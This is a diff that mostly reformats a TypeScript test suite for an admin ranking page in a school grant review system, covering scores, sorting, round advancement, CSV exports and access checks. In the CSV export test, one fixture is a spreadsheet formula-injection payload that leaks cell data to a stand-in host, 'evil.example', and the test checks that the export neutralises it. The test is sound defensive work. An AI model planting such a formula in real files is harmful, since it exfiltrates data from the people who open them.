@@ -50,7 +50,6 @@ const REVIEWS: Array<[1 | 2 | 3, App, 'submitted' | 'draft' | 'assigned', number
   [3, 'A', 'assigned', [], null],
 ];
 
-
 describe('admins: the ranking of a review round', () => {
   let h: Harness;
   let admin: Agent;
@@ -70,13 +69,19 @@ describe('admins: the ranking of a review round', () => {
 
   function cells(html: string, app: App): Record<string, string> {
     const row = html.split(`<tr data-application="${ids[app]}">`)[1]!.split('</tr>')[0]!;
-    return Object.fromEntries([...row.matchAll(/<td data-cell="(\w+)">(.*?)<\/td>/g)].map((m) => [m[1]!, m[2]!.replace(/<[^>]+>/g, '').trim()]));
+    return Object.fromEntries(
+      [...row.matchAll(/<td data-cell="(\w+)">(.*?)<\/td>/g)].map((m) => [m[1]!, m[2]!.replace(/<[^>]+>/g, '').trim()]),
+    );
   }
 
   before(async () => {
     h = await startHarness();
     cycleId = await createOpenCycle(h.db, h.clock());
-    const rubric = await h.db.select().from(criteria).where(eq(criteria.cycleId, cycleId)).orderBy(asc(criteria.position));
+    const rubric = await h.db
+      .select()
+      .from(criteria)
+      .where(eq(criteria.cycleId, cycleId))
+      .orderBy(asc(criteria.position));
     await h.db.update(criteria).set({ weight: 2 }).where(eq(criteria.id, rubric[0]!.id));
     await createUser(h.db, { email: 'admin@program.example.org', name: 'Ada Admin', roles: ['admin'] });
     const reviewers = {
@@ -85,10 +90,18 @@ describe('admins: the ranking of a review round', () => {
       3: await createUser(h.db, { email: 'mo@panel.example.org', name: 'Mo Middle', roles: ['reviewer'] }),
     };
     for (const [letter, s] of Object.entries(SCHOOLS) as Array<[App, (typeof SCHOOLS)[App]]>) {
-      const [school] = await h.db.insert(schools).values({ ...s, matchKey: schoolMatchKey(s.name, s.city, s.state) }).returning();
+      const [school] = await h.db
+        .insert(schools)
+        .values({ ...s, matchKey: schoolMatchKey(s.name, s.city, s.state) })
+        .returning();
       const [app] = await h.db
         .insert(applications)
-        .values({ cycleId, schoolId: school!.id, status: letter === 'D' ? 'ineligible' : 'eligible', submittedAt: h.clock() })
+        .values({
+          cycleId,
+          schoolId: school!.id,
+          status: letter === 'D' ? 'ineligible' : 'eligible',
+          submittedAt: h.clock(),
+        })
         .returning();
       ids[letter] = app!.id;
     }
@@ -100,21 +113,31 @@ describe('admins: the ranking of a review round', () => {
       ])
       .returning();
     [round1, round2] = [rounds[0]!.id, rounds[1]!.id];
-    await h.db.insert(roundApplications).values((['A', 'B', 'C', 'D'] as const).map((l) => ({ roundId: round1, applicationId: ids[l] })));
+    await h.db
+      .insert(roundApplications)
+      .values((['A', 'B', 'C', 'D'] as const).map((l) => ({ roundId: round1, applicationId: ids[l] })));
     for (const [r, app, status, scores, recommendation] of REVIEWS) {
       const [assignment] = await h.db
         .insert(assignments)
         .values({
-          roundId: round1, applicationId: ids[app], reviewerId: reviewers[r].id, status, recommendation,
+          roundId: round1,
+          applicationId: ids[app],
+          reviewerId: reviewers[r].id,
+          status,
+          recommendation,
           submittedAt: status === 'submitted' ? h.clock() : null,
           confidentialNote: r === 2 && app === 'C' ? '+1+2 do not share' : '',
         })
         .returning();
       if (scores.length === 0) continue;
-      await h.db.insert(reviewScores).values(scores.map((score, i) => ({
-        assignmentId: assignment!.id, criterionId: rubric[i]!.id, score,
-        comment: r === 1 && app === 'A' && i === 0 ? HYPERLINK : `R${r} on ${app}, criterion ${i + 1}`,
-      })));
+      await h.db.insert(reviewScores).values(
+        scores.map((score, i) => ({
+          assignmentId: assignment!.id,
+          criterionId: rubric[i]!.id,
+          score,
+          comment: r === 1 && app === 'A' && i === 0 ? HYPERLINK : `R${r} on ${app}, criterion ${i + 1}`,
+        })),
+      );
     }
     admin = h.agent();
     await signIn(admin, 'admin@program.example.org');
@@ -132,23 +155,57 @@ describe('admins: the ranking of a review round', () => {
       C: [2.5, 28 / 15, 2.5, true, 3, 3, [0, 1, 2]],
       D: [3, 41 / 15, 1, false, 2, 3, [0, 1, 1]],
     } as const;
-    for (const [app, [mean, normalized, spread, flagged, reviewsIn, expectedIn, [gold, silver, no]]] of Object.entries(expected)) {
+    for (const [app, [mean, normalized, spread, flagged, reviewsIn, expectedIn, [gold, silver, no]]] of Object.entries(
+      expected,
+    )) {
       const row = byApp[app]!;
       expect(row.mean, `${app} mean`).to.be.closeTo(mean, EPS);
       expect(row.normalized, `${app} normalized`).to.be.closeTo(normalized, EPS);
       expect(row.spread, `${app} spread`).to.be.closeTo(spread, EPS);
-      expect([row.flagged, row.reviewsIn, row.reviewsExpected, row.gold, row.silver, row.notRecommended], app).to.deep.equal([flagged, reviewsIn, expectedIn, gold, silver, no]);
+      expect(
+        [row.flagged, row.reviewsIn, row.reviewsExpected, row.gold, row.silver, row.notRecommended],
+        app,
+      ).to.deep.equal([flagged, reviewsIn, expectedIn, gold, silver, no]);
     }
-    expect(reviewers.map((r) => [r.name, r.n, r.mean, r.sd])).to.deep.equal([['Hal Harsh', 4, 2.75, 1.25], ['Rae Lenient', 4, 3.75, 0.75], ['Mo Middle', 2, 4, 0.5]]);
+    expect(reviewers.map((r) => [r.name, r.n, r.mean, r.sd])).to.deep.equal([
+      ['Hal Harsh', 4, 2.75, 1.25],
+      ['Rae Lenient', 4, 3.75, 0.75],
+      ['Mo Middle', 2, 4, 0.5],
+    ]);
     expect(roundMean).to.be.closeTo(3.4, EPS);
     expect(histogram.map((b) => b.count)).to.deep.equal([0, 0, 0, 1, 1, 0, 2, 0]);
 
     const page = await admin.get(`/admin/rounds/${round1}/ranking`);
     expect(page.status).to.equal(200);
-    expect(cells(page.text, 'A')).to.deep.equal({ reviews: '2/3 (waiting)', mean: '4.00', normalized: '3.93', spread: '2.00', recommendations: 'Gold 1, Silver 1, No 0', flag: '⚑ Reviewers disagree' });
-    expect(cells(page.text, 'B')).to.deep.equal({ reviews: '3/3', mean: '4.17', normalized: '3.69', spread: '1.00', recommendations: 'Gold 2, Silver 1, No 0', flag: 'No' });
-    expect(cells(page.text, 'C')).to.include({ mean: '2.50', normalized: '1.87', spread: '2.50', flag: '⚑ Reviewers disagree' });
-    expect(cells(page.text, 'D')).to.include({ reviews: '2/3 (waiting)', mean: '3.00', normalized: '2.73', spread: '1.00', recommendations: 'Gold 0, Silver 1, No 1' });
+    expect(cells(page.text, 'A')).to.deep.equal({
+      reviews: '2/3 (waiting)',
+      mean: '4.00',
+      normalized: '3.93',
+      spread: '2.00',
+      recommendations: 'Gold 1, Silver 1, No 0',
+      flag: '⚑ Reviewers disagree',
+    });
+    expect(cells(page.text, 'B')).to.deep.equal({
+      reviews: '3/3',
+      mean: '4.17',
+      normalized: '3.69',
+      spread: '1.00',
+      recommendations: 'Gold 2, Silver 1, No 0',
+      flag: 'No',
+    });
+    expect(cells(page.text, 'C')).to.include({
+      mean: '2.50',
+      normalized: '1.87',
+      spread: '2.50',
+      flag: '⚑ Reviewers disagree',
+    });
+    expect(cells(page.text, 'D')).to.include({
+      reviews: '2/3 (waiting)',
+      mean: '3.00',
+      normalized: '2.73',
+      spread: '1.00',
+      recommendations: 'Gold 0, Silver 1, No 1',
+    });
     expect(page.text).to.contain('3 + z × 1 (the midpoint plus z times a quarter of the range)');
     expect(page.text).to.contain("more than the cycle's threshold, 1.50");
   });
@@ -162,7 +219,9 @@ describe('admins: the ranking of a review round', () => {
     expect(await order('?sort=name')).to.equal('ABCD');
     expect(await order('?sort=name&dir=desc')).to.equal('DCBA');
     const page = await admin.get(`/admin/rounds/${round1}/ranking?sort=normalized&dir=desc`);
-    expect(readable(page.text)).to.match(/<th scope="col" aria-sort="descending"><a href="[^"]*sort=normalized&dir=asc">Normalized<\/a> ▼/);
+    expect(readable(page.text)).to.match(
+      /<th scope="col" aria-sort="descending"><a href="[^"]*sort=normalized&dir=asc">Normalized<\/a> ▼/,
+    );
   });
 
   it('filters by state, level, eligibility status and disagreement', async () => {
@@ -181,8 +240,16 @@ describe('admins: the ranking of a review round', () => {
     expect(text).to.contain('4 applications with scores, counted by weighted mean score: 1.0–1.5: 0;');
     expect(text).to.contain('Harshest: Hal Harsh, mean 2.75; most lenient: Mo Middle, mean 4.00.');
     expect(text).to.contain('Round mean 3.40');
-    const reviewerRows = [...text.matchAll(/<tr data-reviewer="\d+"><td>([^<]+)<\/td><td>(\d+)<\/td><td>([\d.]+)<\/td><td>([\d.]+)<\/td><td>([^<]+)<\/td>/g)].map((m) => m.slice(1).join(' '));
-    expect(reviewerRows).to.deep.equal(['Hal Harsh 4 2.75 1.25 −0.65', 'Rae Lenient 4 3.75 0.75 +0.35', 'Mo Middle 2 4.00 0.50 +0.60']);
+    const reviewerRows = [
+      ...text.matchAll(
+        /<tr data-reviewer="\d+"><td>([^<]+)<\/td><td>(\d+)<\/td><td>([\d.]+)<\/td><td>([\d.]+)<\/td><td>([^<]+)<\/td>/g,
+      ),
+    ].map((m) => m.slice(1).join(' '));
+    expect(reviewerRows).to.deep.equal([
+      'Hal Harsh 4 2.75 1.25 −0.65',
+      'Rae Lenient 4 3.75 0.75 +0.35',
+      'Mo Middle 2 4.00 0.50 +0.60',
+    ]);
     expect(text).not.to.match(/\sstyle=/);
   });
 
@@ -192,16 +259,27 @@ describe('admins: the ranking of a review round', () => {
     expect(page.text).to.contain(`name="applicationIds" value="${ids.A}"`);
     expect(page.text).not.to.contain(`name="applicationIds" value="${ids.D}"`); // not eligible
     const advance = (applicationIds: string[]) =>
-      submitForm(admin, `/admin/rounds/${round1}/ranking`, `/admin/rounds/${round1}/advance`, { toRoundId: String(round2), applicationIds, returnTo: 'state=OR&sort=name&evil=1' });
+      submitForm(admin, `/admin/rounds/${round1}/ranking`, `/admin/rounds/${round1}/advance`, {
+        toRoundId: String(round2),
+        applicationIds,
+        returnTo: 'state=OR&sort=name&evil=1',
+      });
     const inRound2 = async () =>
-      (await h.db.select().from(roundApplications).where(eq(roundApplications.roundId, round2))).map((r) => letterOf(r.applicationId)).sort().join('');
+      (await h.db.select().from(roundApplications).where(eq(roundApplications.roundId, round2)))
+        .map((r) => letterOf(r.applicationId))
+        .sort()
+        .join('');
 
     for (const refused of [[ids.A, ids.E], [ids.D]]) {
       const res = await advance(refused.map(String));
       expect(res.status).to.equal(303);
       expect(res.headers.location).to.equal(`/admin/rounds/${round1}/ranking?state=OR&sort=name&dir=asc`);
       const next = await admin.get(res.headers.location!);
-      expect(next.text).to.contain(refused.length === 2 ? `Not in First reading: application no. ${ids.E}. Nothing was advanced.` : `No longer eligible: application no. ${ids.D}.`);
+      expect(next.text).to.contain(
+        refused.length === 2
+          ? `Not in First reading: application no. ${ids.E}. Nothing was advanced.`
+          : `No longer eligible: application no. ${ids.D}.`,
+      );
     }
     expect(await inRound2()).to.equal('');
     expect((await advance([])).status).to.equal(303);
@@ -210,43 +288,75 @@ describe('admins: the ranking of a review round', () => {
     expect((await admin.get(res.headers.location!)).text).to.contain('2 applications added to Finalists.');
     expect(await inRound2()).to.equal('AB');
     const again = await advance([String(ids.B), String(ids.C)]);
-    expect((await admin.get(again.headers.location!)).text).to.contain('1 application added to Finalists. 1 was already there.');
+    expect((await admin.get(again.headers.location!)).text).to.contain(
+      '1 application added to Finalists. 1 was already there.',
+    );
     expect(await inRound2()).to.equal('ABC');
 
-    const entries = await h.db.select().from(auditLog).where(and(eq(auditLog.action, 'round.advance'), eq(auditLog.subjectId, String(round2)))).orderBy(asc(auditLog.id));
+    const entries = await h.db
+      .select()
+      .from(auditLog)
+      .where(and(eq(auditLog.action, 'round.advance'), eq(auditLog.subjectId, String(round2))))
+      .orderBy(asc(auditLog.id));
     expect(entries.map((e) => e.summary)).to.deep.equal([
       'Advanced 2 application(s) from First reading to Finalists',
       'Advanced 1 application(s) from First reading to Finalists (1 already there)',
     ]);
-    expect(entries[0]!.details).to.deep.equal({ fromRoundId: round1, toRoundId: round2, applicationIds: [ids.A, ids.B], added: [ids.A, ids.B] });
-    const backwards = await submitForm(admin, `/admin/rounds/${round2}/ranking`, `/admin/rounds/${round2}/advance`, { toRoundId: String(round1), applicationIds: [String(ids.A)] });
+    expect(entries[0]!.details).to.deep.equal({
+      fromRoundId: round1,
+      toRoundId: round2,
+      applicationIds: [ids.A, ids.B],
+      added: [ids.A, ids.B],
+    });
+    const backwards = await submitForm(admin, `/admin/rounds/${round2}/ranking`, `/admin/rounds/${round2}/advance`, {
+      toRoundId: String(round1),
+      applicationIds: [String(ids.A)],
+    });
     expect((await admin.get(backwards.headers.location!)).text).to.contain('Choose a later round of the same cycle.');
     // The last round has no later round to advance to.
-    expect((await admin.get(`/admin/rounds/${round2}/ranking`)).text).to.contain('first create the next round of this cycle');
+    expect((await admin.get(`/admin/rounds/${round2}/ranking`)).text).to.contain(
+      'first create the next round of this cycle',
+    );
   });
 
   it('exports the ranking and every submitted review as CSV, formulas neutralized', async () => {
     const ranking = await admin.get(`/admin/rounds/${round1}/ranking.csv?sort=normalized`);
     expect(ranking.status).to.equal(200);
     expect(ranking.headers['content-type']).to.equal('text/csv; charset=utf-8');
-    expect(ranking.headers['content-disposition']).to.match(/^attachment; filename="?ranking-first-reading-2026-11-22\.csv"?$/);
-    const lines = ranking.text.replace(/^\uFEFF/, '').trim().split('\r\n');
-    expect(lines[0]).to.equal('Rank,Application no.,School,City,State,Level,Status,Reviews in,Reviews expected,Weighted mean,Normalized,Spread,Gold,Silver,Not recommended,Disagreement flag');
+    expect(ranking.headers['content-disposition']).to.match(
+      /^attachment; filename="?ranking-first-reading-2026-11-22\.csv"?$/,
+    );
+    const lines = ranking.text
+      .replace(/^\uFEFF/, '')
+      .trim()
+      .split('\r\n');
+    expect(lines[0]).to.equal(
+      'Rank,Application no.,School,City,State,Level,Status,Reviews in,Reviews expected,Weighted mean,Normalized,Spread,Gold,Silver,Not recommended,Disagreement flag',
+    );
     expect(lines.slice(1)).to.deep.equal([
       `1,${ids.A},Alder High School,Portland,OR,high,eligible,2,3,4,3.9333,2,1,1,0,yes`,
       `2,${ids.B},Birch Academy,Austin,TX,high,eligible,3,3,4.1667,3.6889,1,2,1,0,no`,
       `3,${ids.D},Dogwood High,Fresno,CA,high,ineligible,2,3,3,2.7333,1,0,1,1,no`,
       `4,${ids.C},Cedar Middle School,Eugene,OR,middle,eligible,3,3,2.5,1.8667,2.5,0,1,2,yes`,
     ]);
-    expect((await admin.get(`/admin/rounds/${round1}/ranking.csv?flagged=yes`)).text.trim().split('\r\n')).to.have.length(3);
+    expect(
+      (await admin.get(`/admin/rounds/${round1}/ranking.csv?flagged=yes`)).text.trim().split('\r\n'),
+    ).to.have.length(3);
 
     const reviews = await admin.get(`/admin/rounds/${round1}/reviews.csv`);
     expect(reviews.status).to.equal(200);
-    const rows = reviews.text.replace(/^\uFEFF/, '').trim().split('\r\n');
+    const rows = reviews.text
+      .replace(/^\uFEFF/, '')
+      .trim()
+      .split('\r\n');
     expect(rows).to.have.length(11); // the header and the ten submitted reviews: no draft
-    expect(rows[0]).to.match(/^Application no\.,School,State,Reviewer,Reviewer e-mail,Submitted,Review score \(weighted mean\),Recommendation,1\. Broadening and enriching learning opportunities: score,1\. Broadening and enriching learning opportunities: comment,2\./);
+    expect(rows[0]).to.match(
+      /^Application no\.,School,State,Reviewer,Reviewer e-mail,Submitted,Review score \(weighted mean\),Recommendation,1\. Broadening and enriching learning opportunities: score,1\. Broadening and enriching learning opportunities: comment,2\./,
+    );
     expect(rows[0]).to.match(/,Confidential note \(admins only\)$/);
-    expect(rows[1]).to.contain(`${ids.A},Alder High School,OR,Rae Lenient,rae@panel.example.org,2026-11-22T12:00:00.000Z,5,Gold,5,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",5,"R1 on A, criterion 2"`);
+    expect(rows[1]).to.contain(
+      `${ids.A},Alder High School,OR,Rae Lenient,rae@panel.example.org,2026-11-22T12:00:00.000Z,5,Gold,5,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",5,"R1 on A, criterion 2"`,
+    );
     const halOnCedar = rows.find((r) => r.includes('Hal Harsh') && r.includes('Cedar'))!;
     expect(halOnCedar).to.contain(',1,Not recommended,1,"R2 on C, criterion 1",1,');
     expect(halOnCedar).to.match(/,'\+1\+2 do not share$/);
@@ -259,29 +369,58 @@ describe('admins: the ranking of a review round', () => {
 
   it('pages 100 at a time, applications without reviews last', async () => {
     const names = Array.from({ length: 97 }, (_, i) => `Unread School ${String(i).padStart(2, '0')}`);
-    const added = await h.db.insert(schools).values(names.map((name) => ({ name, city: 'Salem', state: 'OR', level: 'high' as const, matchKey: schoolMatchKey(name, 'Salem', 'OR') }))).returning();
-    const apps = await h.db.insert(applications).values(added.map((school) => ({ cycleId, schoolId: school.id, status: 'eligible' as const }))).returning();
+    const added = await h.db
+      .insert(schools)
+      .values(
+        names.map((name) => ({
+          name,
+          city: 'Salem',
+          state: 'OR',
+          level: 'high' as const,
+          matchKey: schoolMatchKey(name, 'Salem', 'OR'),
+        })),
+      )
+      .returning();
+    const apps = await h.db
+      .insert(applications)
+      .values(added.map((school) => ({ cycleId, schoolId: school.id, status: 'eligible' as const })))
+      .returning();
     await h.db.insert(roundApplications).values(apps.map((a) => ({ roundId: round1, applicationId: a.id })));
     const first = await admin.get(`/admin/rounds/${round1}/ranking?sort=mean&dir=asc`);
     expect(first.text).to.contain('101 applications match; 100 a page, page 1 of 2.');
     expect(first.text.match(/<tr data-application=/g)).to.have.length(100);
-    expect(first.text).to.match(/<tr data-application="\d+">\s*<td>[^]*?<td>1<\/td>\s*<td><a href="\/applications\/\d+">Cedar Middle School</);
+    expect(first.text).to.match(
+      /<tr data-application="\d+">\s*<td>[^]*?<td>1<\/td>\s*<td><a href="\/applications\/\d+">Cedar Middle School</,
+    );
     const second = await admin.get(`/admin/rounds/${round1}/ranking?sort=mean&dir=asc&page=2`);
     expect(second.text).to.contain('page 2 of 2');
-    expect([...second.text.matchAll(/<tr data-application="(\d+)">/g)].map((m) => Number(m[1]))).to.deep.equal([apps[96]!.id]);
+    expect([...second.text.matchAll(/<tr data-application="(\d+)">/g)].map((m) => Number(m[1]))).to.deep.equal([
+      apps[96]!.id,
+    ]);
     expect(second.text).to.contain('<td>101</td>');
     expect(readable(second.text)).to.contain(`href="/admin/rounds/${round1}/ranking?sort=mean&dir=asc" rel="prev"`);
   });
 
   it('keeps the page, the exports and advancing to admins', async () => {
-    for (const url of [`/admin/rounds/${round1}/ranking`, `/admin/rounds/${round1}/ranking.csv`, `/admin/rounds/${round1}/reviews.csv`]) {
+    for (const url of [
+      `/admin/rounds/${round1}/ranking`,
+      `/admin/rounds/${round1}/ranking.csv`,
+      `/admin/rounds/${round1}/reviews.csv`,
+    ]) {
       const res = await reviewer.get(url);
       expect(res.status, url).to.equal(403);
       expect(readable(res.text)).to.contain('This page is for admins of the program');
     }
-    const post = await submitForm(reviewer, '/', `/admin/rounds/${round1}/advance`, { toRoundId: String(round2), applicationIds: [String(ids.D)] });
+    const post = await submitForm(reviewer, '/', `/admin/rounds/${round1}/advance`, {
+      toRoundId: String(round2),
+      applicationIds: [String(ids.D)],
+    });
     expect(post.status).to.equal(403);
-    expect((await h.db.select().from(roundApplications).where(eq(roundApplications.roundId, round2))).map((r) => r.applicationId)).not.to.include(ids.D);
+    expect(
+      (await h.db.select().from(roundApplications).where(eq(roundApplications.roundId, round2))).map(
+        (r) => r.applicationId,
+      ),
+    ).not.to.include(ids.D);
     expect((await admin.get('/admin/rounds/999999/ranking')).status).to.equal(404);
   });
 });
